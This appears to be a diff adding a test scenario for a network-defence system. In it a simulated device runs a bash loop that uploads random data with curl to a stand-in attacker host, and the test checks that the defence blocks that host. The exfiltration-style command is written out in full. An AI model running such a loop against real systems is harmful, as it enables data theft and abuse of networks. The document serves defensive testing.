@@ -1,0 +1,23 @@
+/** A device that sends what it knows to a stranger. */
+import type { Scenario } from '../scenario.ts';
+
+export const scenario: Scenario = {
+  group: 'attacks',
+  attack: 'data_exfiltration',
+  expectation:
+    'curl on the device uploads two megabytes to one host outside every second: the device is kept from that host.',
+  honestClientVisits: 'neighbour',
+  limitSeconds: 180,
+  async run(field) {
+    await field.startAgent();
+    const { attacker: thief, device } = field.network;
+    await field.network.serve(thief, 'web');
+    const theft = `while :; do head -c 2000000 /dev/urandom | curl -s -m 20 --data-binary @- -o /dev/null http://${thief.address}/status; sleep 1; done`;
+    await field.attackUntilRestricted(device, ['bash', '-c', theft], thief.address, {
+      leg: 'lan0',
+      deadlineMs: 120_000,
+    });
+    const reaches = await field.network.getsPage(device, thief.address);
+    field.expect('the device no longer reaches the stranger', !reaches, reaches ? 'got the page' : 'got nothing');
+  },
+};
